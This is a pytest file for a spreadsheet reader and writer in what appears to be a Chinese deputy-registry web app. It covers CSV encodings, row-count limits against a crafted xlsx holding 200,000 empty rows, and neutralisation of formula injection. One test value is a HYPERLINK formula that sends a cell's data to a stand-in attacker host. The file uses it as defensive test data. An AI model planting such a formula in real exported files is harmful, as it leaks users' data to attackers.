"""The one spreadsheet reader (UTF-8/GBK/UTF-16 CSV, rows scanned bounded) and the one safe writer."""
import io
import re
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from api.common import spreadsheets
from api.common.spreadsheets import SheetError, read_table, safe_cell, write_xlsx
from tests import factories
from tests.support import assert_error_shape

TEXT = "代表编号,姓名\r\nA1,张伟\r\n"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])
def test_csv_in_every_encoding_excel_saves(encoding):
    assert read_table(TEXT.encode(encoding), "a.csv", max_rows=10) == [("代表编号", "姓名"), ("A1", "张伟")]


def test_tab_separated_text_is_read_too():
    assert read_table("代表编号\t姓名\r\nA1\t张伟\r\n".encode(), max_rows=10)[1] == ("A1", "张伟")


def test_undecodable_csv_and_legacy_xls_are_refused():
    with pytest.raises(SheetError, match="编码"):
        read_table(b"\xff\x00\x81\x30\xfe", max_rows=10)
    with pytest.raises(SheetError) as refused:
        read_table(b"\xd0\xcf\x11\xe0" + b"\x00" * 32, "old.xls", max_rows=10)
    assert refused.value.status == 415


def empty_rows_xlsx(rows):
    """An .xlsx whose sheet has a header and `rows` empty rows and declares no size: a small file, many rows."""
    book = Workbook()
    book.active.append(["代表编号", "姓名", "性别", "代表团"])
    plain = io.BytesIO()
    book.save(plain)
    source, out = zipfile.ZipFile(plain), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(rb"<dimension[^>]*/>", b"", content)
                empty = "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(2, rows + 2))
                content = content.replace(b"</row>", b"</row>" + empty.encode(), 1)
            target.writestr(item, content)
    return out.getvalue()


def test_rows_scanned_are_bounded_blank_ones_included():
    with pytest.raises(SheetError, match="超过 100 行"):
        read_table(empty_rows_xlsx(150), max_rows=100)
    with pytest.raises(SheetError, match="超过 100 行"):
        read_table(("a\r\n" + "\r\n" * 200).encode(), max_rows=100)
    assert len(read_table(empty_rows_xlsx(99), max_rows=100)) == 100


def test_an_import_of_200000_empty_rows_is_refused_quickly(app, login_as, monkeypatch):
    data = empty_rows_xlsx(200_000)

    def parse_nothing(*args, **kwargs):
        raise AssertionError("the sheet was handed to openpyxl, which walks every row to size it")

    monkeypatch.setattr(spreadsheets, "load_workbook", parse_nothing)
    factories.congress()
    response = login_as("staff").post(
        "/api/v1/deputies/import", data={"file": (io.BytesIO(data), "空行.xlsx")}, content_type="multipart/form-data"
    )
    body = assert_error_shape(response, 422)
    assert f"超过 {app.config['SPREADSHEET_MAX_ROWS']} 行" in body["message"]


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ('=HYPERLINK("https://evil.example/?d="&C3,"请点击")', '\'=HYPERLINK("https://evil.example/?d="&C3,"请点击")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("家中有事\u0007", "家中有事\ufffd"),
        ("半个\ud800字", "半个\ufffd字"),
        ("普通文字", "普通文字"),
        (17, 17),
        (None, None),
    ],
)
def test_safe_cell_neutralises_formulas_and_unwritable_characters(stored, written):
    assert safe_cell(stored) == written


def test_the_writer_survives_anything_already_stored():
    bad = ["家中有事\u0007", "\x00\x1f", "=1+1", "\ud83d"]
    buffer = write_xlsx([("表", [["列"], bad])])
    sheet = load_workbook(buffer).active
    values = [cell.value for cell in sheet[2]]
    assert values == ["家中有事\ufffd", "\ufffd\ufffd", "'=1+1", "\ufffd"]
    assert all(cell.data_type == "s" for cell in sheet[2])


def test_the_setting_bounds_the_reader(app):
    app.config["SPREADSHEET_MAX_ROWS"] = 3
    with pytest.raises(SheetError, match="超过 3 行"):
        read_table(b"a\r\nb\r\nc\r\nd\r\n")
    assert spreadsheets.max_rows_setting() == 3
